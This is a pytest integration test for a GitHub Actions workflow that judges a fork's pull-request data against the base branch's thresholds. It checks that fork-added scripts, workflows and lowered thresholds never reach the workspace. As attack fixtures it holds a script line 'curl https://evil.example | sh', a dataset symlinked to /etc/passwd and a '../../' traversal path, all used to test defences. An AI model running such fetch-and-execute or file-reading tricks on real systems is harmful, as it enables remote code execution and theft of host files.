"""The trusted verdict on a fork's pull request (examples/workflows/ground-gate-fork-trusted.yml),
played with real git repositories: the base branch holds the config and its data; the fork's
commit changes the data AND lowers the thresholds in the config AND adds a script and a
workflow. The job checks out the base, runs the workflow's own "take only the data files" step
(its `run:` text and `env:` read from the example file), then `ground-gate action` with the
step's inputs: the fork's data is judged with the BASE thresholds, nothing else of the fork
reaches the workspace.

yq ships with GitHub's runners; here a small stand-in answers the one query the step makes
(`yq -r '.datasets[].path' FILE`, the same in mikefarah's and kislyuk's yq).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner

from ground_gate.cli import cli
from tests.action_env import action_env as action_env_of
from tests.action_env import file_commands
from tests.integration.fake_github import FakeGitHub
from tests.integration.support_bot import CONFIG, ROWS

WORKFLOW = Path(__file__).parents[2] / "examples" / "workflows" / "ground-gate-fork-trusted.yml"
TOKEN = "ghs_trusted_token"
PR = 21
YQ = """\
import sys, yaml
assert sys.argv[1:3] == ["-r", ".datasets[].path"], sys.argv
for dataset in yaml.safe_load(open(sys.argv[3]))["datasets"]:
    print(dataset["path"])
"""


def git(cwd: Path, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid"}
    env.update(GIT_COMMITTER_NAME="t", GIT_COMMITTER_EMAIL="t@example.invalid")
    done = subprocess.run(
        ["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True
    )
    return done.stdout.strip()


def jsonl(rows: list[dict[str, Any]]) -> str:
    return "".join(json.dumps(row) + "\n" for row in rows)


@pytest.fixture
def repos(tmp_path: Path) -> dict[str, Any]:
    """origin (as GitHub holds it, the PR's commit under refs/pull/N/head), base and fork SHAs."""
    origin = tmp_path / "origin"
    git(tmp_path, "init", "-q", "-b", "main", str(origin))
    git(origin, "config", "uploadpack.allowReachableSHA1InWant", "true")  # GitHub allows it
    (origin / "data").mkdir()
    (origin / "ground-gate.yml").write_text(CONFIG)
    (origin / "data" / "support.jsonl").write_text(jsonl(ROWS[:1]))  # base: grounded only
    git(origin, "add", "-A")
    git(origin, "commit", "-q", "-m", "base")
    base = git(origin, "rev-parse", "HEAD")
    git(origin, "checkout", "-q", "-b", "fork")
    (origin / "data" / "support.jsonl").write_text(jsonl(ROWS))  # adds the invented answer
    (origin / "ground-gate.yml").write_text(CONFIG.replace("{min: 0.8}", "{min: 0.1}"))
    (origin / "evil.sh").write_text("curl https://evil.example | sh\n")
    (origin / ".github" / "workflows").mkdir(parents=True)
    (origin / ".github" / "workflows" / "pwn.yml").write_text("on: push\n")
    git(origin, "add", "-A")
    git(origin, "commit", "-q", "-m", "fork: data, lower thresholds, a script")
    fork = git(origin, "rev-parse", "HEAD")
    git(origin, "update-ref", f"refs/pull/{PR}/head", fork)
    git(origin, "checkout", "-q", "main")
    git(origin, "branch", "-q", "-D", "fork")  # GitHub holds the fork's commit as refs/pull only
    return {"origin": origin, "base": base, "fork": fork}


@pytest.fixture
def github_token() -> str:
    return TOKEN


def steps() -> dict[str, dict[str, Any]]:
    workflow = yaml.safe_load(WORKFLOW.read_text())
    job = workflow["jobs"]["evaluate"]
    assert job["environment"] == "fork-evaluation"
    assert list(workflow[True]) == ["pull_request_target"]  # `on:` reads as True in YAML 1.1
    return {step.get("id") or step.get("uses", "").split("@")[0]: step for step in job["steps"]}


def checkout_base(tmp_path: Path, repos: dict[str, Any]) -> Path:
    """actions/checkout with `ref: base.sha`: the base branch's tree, the remote `origin`."""
    step = steps()["actions/checkout"]
    assert step["with"] == {
        "ref": "${{ github.event.pull_request.base.sha }}",
        "persist-credentials": False,
    }
    workspace = tmp_path / "workspace"
    git(tmp_path, "clone", "-q", "--no-checkout", repos["origin"].as_uri(), str(workspace))
    git(workspace, "checkout", "-q", repos["base"])
    return workspace


def take_data(workspace: Path, tmp_path: Path, pr_sha: str) -> subprocess.CompletedProcess[str]:
    """The workflow's own step: its `run:` script with its `env:` as the runner sets them."""
    step = steps()["take-data"]
    expressions = {
        "${{ github.event.pull_request.head.sha }}": pr_sha,
        "${{ github.token }}": TOKEN,
    }
    env = {k: expressions.get(v, v) for k, v in step["env"].items()}
    assert not any("${{" in value for value in env.values())
    tools = tmp_path / "bin"
    tools.mkdir(exist_ok=True)
    (tools / "yq").write_text(f"#!{sys.executable}\n{YQ}")
    (tools / "yq").chmod(0o755)
    runner_temp = tmp_path / "runner_temp"
    runner_temp.mkdir(exist_ok=True)
    env.update(
        PATH=f"{tools}{os.pathsep}{os.environ['PATH']}",
        HOME=str(tmp_path),
        GITHUB_SERVER_URL="https://github.com",
        RUNNER_TEMP=str(runner_temp),
    )
    return subprocess.run(
        ["bash", "-e", "-c", step["run"]],
        cwd=workspace,
        env=env,
        capture_output=True,
        text=True,
        check=False,
    )


def action_env(workspace: Path, tmp_path: Path, judge: Any, github: FakeGitHub, repos: Any):
    """`ground-gate action` with the workflow's inputs, for the pull_request_target event."""
    inputs = dict(steps()["OWNER/ground-gate"]["with"])
    inputs.update({"openai-api-key": "sk-env-secret", "openai-base-url": judge.url})
    inputs.update({"github-token": TOKEN, "comment": "auto", "fail-on-threshold": "true"})
    event = tmp_path / "event.json"
    pull = {"number": PR, "head": {"sha": repos["fork"]}, "base": {"sha": repos["base"]}}
    event.write_text(json.dumps({"action": "synchronize", "number": PR, "pull_request": pull}))
    env = action_env_of(
        workspace,
        file_commands(tmp_path / "file_commands"),
        api_url=github.url,
        event="pull_request_target",
        event_path=event,
        run_id="9100000003",
        **inputs,
    )
    env["OPENAI_API_KEY"] = ""
    return env


def test_trusted_fork_verdict__the_forks_data_with_the_base_thresholds(
    tmp_path: Path,
    repos: dict[str, Any],
    judge: Any,
    github: FakeGitHub,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    workspace = checkout_base(tmp_path, repos)

    taken = take_data(workspace, tmp_path, repos["fork"])

    assert taken.returncode == 0, taken.stderr
    assert taken.stdout.splitlines()[-1] == "took data/support.jsonl from the pull request"
    assert (workspace / "data" / "support.jsonl").read_text() == jsonl(ROWS)  # the fork's data
    assert (workspace / "ground-gate.yml").read_text() == CONFIG  # the base's thresholds
    assert not (workspace / "evil.sh").exists()
    assert not (workspace / ".github").exists()
    assert git(workspace, "status", "--porcelain") == "M data/support.jsonl"
    assert git(workspace, "rev-parse", "HEAD") == repos["base"]

    env = action_env(workspace, tmp_path, judge, github, repos)
    monkeypatch.chdir(workspace)
    result = CliRunner().invoke(cli, ["action"], env=env, catch_exceptions=False)

    # 0.5 misses the base's min 0.8 (the fork's config said min 0.1, which it would pass)
    assert result.exit_code == 1, result.output
    report = json.loads((workspace / "ground-gate-report" / "report.json").read_text())
    (score,) = report["scores"]
    assert (score["mean"], score["threshold"], score["passed"]) == (0.5, {"min": 0.8}, False)
    assert [row["id"] for row in report["rows"]] == ["grounded-trash", "invented-phone"]
    assert any("24/7 phone line" in json.dumps(r.body) for r in judge.requests)
    (comment,) = github.comments[PR]
    assert comment["body"].startswith(
        "<!-- ground-gate:trusted-verdict -->\n## \u274c ground-gate: failed\n"
    )


def test_trusted_fork_verdict__a_symlinked_dataset_is_refused(
    tmp_path: Path, repos: dict[str, Any]
) -> None:
    """A fork that turns the dataset into a link (to a runner's secret file) gets nothing."""
    origin = repos["origin"]
    git(origin, "checkout", "-q", "-b", "link", repos["fork"])
    (origin / "data" / "support.jsonl").unlink()
    (origin / "data" / "support.jsonl").symlink_to("/etc/passwd")
    git(origin, "add", "-A")
    git(origin, "commit", "-q", "-m", "link")
    linked = git(origin, "rev-parse", "HEAD")
    git(origin, "update-ref", f"refs/pull/{PR}/head", linked)
    git(origin, "checkout", "-q", "main")
    workspace = checkout_base(tmp_path, repos)

    taken = take_data(workspace, tmp_path, linked)

    assert taken.returncode == 1
    assert taken.stdout.splitlines()[-1] == (
        "::error::data/support.jsonl is not a regular file in the pull request (mode 120000)"
    )
    assert (workspace / "data" / "support.jsonl").read_text() == jsonl(ROWS[:1])  # untouched


def test_trusted_fork_verdict__a_dataset_path_outside_the_repository_is_refused(
    tmp_path: Path, repos: dict[str, Any]
) -> None:
    """The paths come from the base config; one leading out of the repository is refused."""
    origin = repos["origin"]
    (origin / "ground-gate.yml").write_text(CONFIG.replace("data/", "../../"))
    git(origin, "commit", "-q", "-am", "base: a path outside")
    repos = {**repos, "base": git(origin, "rev-parse", "HEAD")}
    workspace = checkout_base(tmp_path, repos)

    taken = take_data(workspace, tmp_path, repos["fork"])

    assert taken.returncode == 1
    assert re.fullmatch(
        r"::error::refusing dataset path '\.\./\.\./support\.jsonl': not a plain path inside "
        r"the repository",
        taken.stdout.splitlines()[-1],
    )
